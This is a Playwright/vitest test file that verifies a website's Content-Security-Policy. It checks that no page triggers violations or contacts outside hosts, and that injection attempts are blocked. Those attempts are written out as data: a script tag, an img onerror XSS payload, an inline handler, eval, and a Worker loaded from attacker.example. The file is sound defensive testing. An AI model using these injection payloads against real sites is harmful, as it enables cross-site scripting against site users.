/** The Content-Security-Policy: nothing on the site breaks it, and nothing that breaks it runs. */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { reader } from '../support/browser.ts';
import { isRedirect, onePerKind, pagesOf } from '../support/pages.ts';
import { searchStates } from '../support/searchStates.ts';
import { builtSite } from '../support/site.ts';

const { open, address } = reader('varied');
const STATES = searchStates(address);

/** Everything that the browser refuses from now on, in any document of the page. */
async function refusals(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('tellRefused', (what: string) => refused.push(what));
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) =>
      (globalThis as unknown as { tellRefused(what: string): void }).tellRefused(
        `${event.documentURI}: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`,
      ),
    ),
  );
  page.on('pageerror', ({ message }) => refused.push(message));
  page.on('request', (request) => {
    if (!request.url().startsWith(address('')) && !request.url().startsWith('blob:'))
      refused.push(request.url());
  });
  return refused;
}

it('nothing on any kind of page is refused, and nothing comes from elsewhere', async () => {
  const page = await open('about/');
  const refused = await refusals(page);
  const pages = onePerKind(pagesOf(builtSite('varied')).filter((built) => !isRedirect(built)));
  expect(pages.length).toBeGreaterThan(15);
  for (const { file } of pages)
    await page.goto(address(file.replace(/index\.html$/, '')), { waitUntil: 'networkidle' });
  expect(refused).toEqual([]);
});

it.each(Object.keys(STATES))('nothing of the search is refused: %s', async (name) => {
  const page = await open('about/');
  const refused = await refusals(page);
  await STATES[name]!(page);
  expect(refused).toEqual([]);
});

describe('what an attacker would want', () => {
  it.each<[string, () => void]>([
    [
      'a script in the markup',
      () => document.body.append(Object.assign(document.createElement('script'), { text: 'top.ran = 1' })),
    ],
    ['markup from a string', () => (document.body.innerHTML = '<img src=x onerror="top.ran = 1">')],
    ['a handler as an attribute', () => document.body.setAttribute('onclick', 'top.ran = 1')],
    ['code from a string', () => window.eval('top.ran = 1')],
    ['a worker from elsewhere', () => void new Worker('https://attacker.example/worker.js')],
  ])('%s does not run', async (_, attack) => {
    const page = await open('zones/');
    // In a task of the page's own: what the browser's tools run at once may evaluate code.
    await page.evaluate(
      `new Promise((done) => setTimeout(() => { try { (${String(attack)})() } catch {} setTimeout(done) }))`,
    );
    await page.evaluate(() => document.body.click());
    expect(await page.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined();
  });
});
